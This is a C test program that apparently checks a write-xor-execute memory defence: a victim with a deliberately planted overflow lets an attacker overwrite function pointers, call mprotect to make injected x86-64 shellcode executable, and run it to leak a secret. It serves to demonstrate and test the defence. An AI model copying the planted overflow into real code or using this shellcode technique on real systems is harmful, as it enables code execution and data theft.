/*
 * attack_w_xor_x - against the wall "w-xor-x": what could be written once never executes.
 *
 * NX alone keeps data from being run where it lies. So the victim of attack_nx is made to take that away first: what
 * lies behind its buffer is a list of calls, which a long message replaces. The attacker's list has two: mprotect makes
 * the message executable, and the message, which is machine code, is called. Where the wall stands mprotect is EACCES.
 */
#include "message.h"

#include <sys/mman.h>

struct call {
	int (*function)(void *, size_t, int);
	void *a;
	size_t b;
	int c;
};

static unsigned char secret[SECRET] = {1};
static struct {
	unsigned char message[64];
	struct call next[2];
} desk __attribute__((aligned(PAGE))) = {{1}, {{0, 0, 0, 0}}};

static int carry_on(void *a, size_t b, int c)
{
	(void)a, (void)b, (void)c;
	return 0;
}

static void victim(int in)
{
	victim_draw(secret);
	desk.next[0].function = desk.next[1].function = carry_on;
	if (read(in, &desk, sizeof desk) > 0) /* the bug: not sizeof desk.message */
		for (int i = 0; i < 2; i++)
			desk.next[i].function(desk.next[i].a, desk.next[i].b, desk.next[i].c);
	_exit(0);
}

/* mov $1, %eax; mov $LEAK, %edi; movabs $secret, %rsi; mov $16, %edx; syscall; mov $60, %eax; syscall */
static void attacker(int out)
{
	static const unsigned char code[] = {0xb8, 1, 0, 0, 0, 0xbf, LEAK, 0, 0, 0, 0x48, 0xbe};
	static const unsigned char rest[] = {0xba, SECRET, 0, 0, 0, 0x0f, 0x05,
					     0xb8, 60,     0, 0, 0, 0x0f, 0x05};
	uint64_t where = (uintptr_t)secret;

	memcpy(desk.message, code, sizeof code);
	memcpy(desk.message + sizeof code, &where, 8);
	memcpy(desk.message + sizeof code + 8, rest, sizeof rest);
	desk.next[0] = (struct call){mprotect, &desk, PAGE, PROT_READ | PROT_EXEC};
	desk.next[1].function = (int (*)(void *, size_t, int))(uintptr_t)desk.message;
	_exit(write(out, &desk, sizeof desk) != sizeof desk);
}

int main(void)
{
	return attack_by_message(victim, attacker);
}
